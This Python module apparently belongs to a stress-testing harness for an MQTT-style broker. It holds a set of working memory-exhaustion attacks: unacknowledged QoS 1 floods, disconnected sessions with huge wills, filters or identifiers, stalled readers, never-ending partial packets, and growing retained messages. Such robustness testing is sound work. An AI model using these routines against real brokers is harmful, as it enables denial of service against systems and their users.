"""Attacks on memory: clients that make the server hold much."""

import itertools

import wire
from .attacker import KIB, MIB, attack


@attack()
def topic_behind_alias(me):
    """Few bytes received that stand for a topic of 64 KiB each."""
    known = wire.publish("t" * 65_000, properties=[(wire.ALIAS, 1)])
    burst = wire.publish("", properties=[(wire.ALIAS, 1)]) * 8_000
    stuck = []
    while me.going():
        sock = me.dial() if len(stuck) < 20 else None
        if sock is None:
            me.rest()
            continue
        sock.settimeout(0.2)
        if me.send(sock, known) and me.send(sock, burst):
            me.send(sock, burst)
        stuck.append(sock)


@attack(leaves_sessions=True)
def never_acknowledges(me):
    """Subscribers at QoS 1 that read, and acknowledge nothing."""
    readers = me.dial_many(3, lasting=True)
    for number, reader in enumerate(readers):
        me.send(reader, wire.subscribe(1, [(f"a{number}", 1)]))
    writer, pid = me.dial(), 0
    while me.going():
        for number in range(3):
            pid = pid % 60_000 + 1
            if not me.send(writer, wire.publish(f"a{number}", bytes(MIB), 1, pid)):
                writer = me.dial()
            readers = me.drain(readers)
        if writer is not None and not me.drain([writer]):
            writer = me.dial()
        if len(readers) < 3:
            more = me.dial_many(3 - len(readers), lasting=True)
            for number, reader in enumerate(more):
                me.send(reader, wire.subscribe(1, [(f"a{number}", 1)]))
            readers += more


@attack(leaves_sessions=True)
def wills(me):
    """Sessions without a connection, each with a large will."""
    properties = [(wire.WILL_DELAY, 100_000)]
    properties += [(wire.USER, ("u" * 60_000, "v" * 60_000))]
    will = wire.will("w", bytes(65_000), properties=properties)
    while me.going():
        sock = me.dial(lasting=True, will=will)
        if sock is None:
            me.rest()
        me.leave(sock)


@attack(leaves_sessions=True)
def long_identifiers(me):
    """Sessions without a connection that have nothing but a long name."""
    while me.going():
        sock = me.dial(me.name("i" * 65_000), lasting=True)
        if sock is None:
            me.rest()
        me.leave(sock)


@attack(leaves_sessions=True)
def long_filters(me):
    """Sessions without a connection that have 4 MB of filters each."""
    while me.going():
        sock = me.dial(lasting=True)
        if sock is None:
            me.rest()
            continue
        me.subscribe(sock, ((me.name("f" * 65_000), 0) for _ in range(60)))
        me.leave(sock)


@attack()
def cached_routes(me):
    """Ever new topics, each with very many subscribers."""
    readers = me.dial_many(500)
    for reader in readers:
        me.send(reader, wire.subscribe(1, [("cached/#", 0)]))
    writer = me.dial()
    while me.going():
        burst = b"".join(wire.publish(me.name("cached/")) for _ in range(20))
        if not me.send(writer, burst):
            writer = me.dial()
        readers = me.drain(readers)


@attack(leaves_sessions=True)
def offline_readers(me):
    """Short messages for very many sessions without a connection."""
    for _ in range(2_000):
        me.away("off/#", 1)
        if not me.going():
            return
    writer, pid = me.dial(), 0
    while me.going():
        pid = pid % 60_000 + 1
        if not me.send(writer, wire.publish("off/x", b"sixteen bytes...", 1, pid)):
            writer = me.dial()
        elif not me.drain([writer]):
            writer = me.dial()


@attack()
def slow_readers_of_newest(me):
    """Readers of all newest values that do not read, while the topics become ever more."""
    readers = me.dial_many(50, receive_buffer=4096)
    for reader in readers:
        me.send(reader, wire.subscribe(1, [("$latest/slow/#", 0)]))
    writer = me.dial()
    while me.going():
        if not me.send(writer, b"".join(wire.publish(me.name("slow/"), b"v") for _ in range(100))):
            writer = me.dial()


@attack()
def stalled_readers(me):
    """Readers at QoS 0 that do not read; each holds what its credit allows of messages of its own."""
    writer = me.dial()
    while me.going():
        readers = []
        for _ in range(800):
            if not me.going():
                break
            name = me.name("stalled")
            reader = me.dial(receive_buffer=4096)
            if reader is None:
                me.rest()
                continue
            readers.append(reader)
            me.subscribe_and_wait(reader, name)
            if not me.send(writer, wire.publish(name, bytes(2_000_000)) * 2):
                writer = me.dial()
        for reader in readers:
            me.leave(reader)


@attack()
def partial_packets(me):
    """Packets of 2 MiB that never end."""
    me.fill(3_700, me.dial, wire.publish("a", bytes(2 * MIB - 100))[:-1])


@attack()
def partial_connects(me):
    """CONNECT packets of 190 KB that never end."""
    packet = wire.connect("c", will=wire.will("w", bytes(60 * KIB)), username="u" * 65_000,
                          password="p" * 65_000)
    me.fill(12_000, me.open, packet[:-1])


@attack()
def growing_retained(me):
    """Retained values that grow, and ever new ones."""
    sock = me.dial()
    for size in itertools.cycle((10, 2_000_000)):
        for number in range(300):
            if not me.going():
                return
            if not me.send(sock, wire.publish(f"r/{number}", bytes(size), retain=True)):
                sock = me.dial()
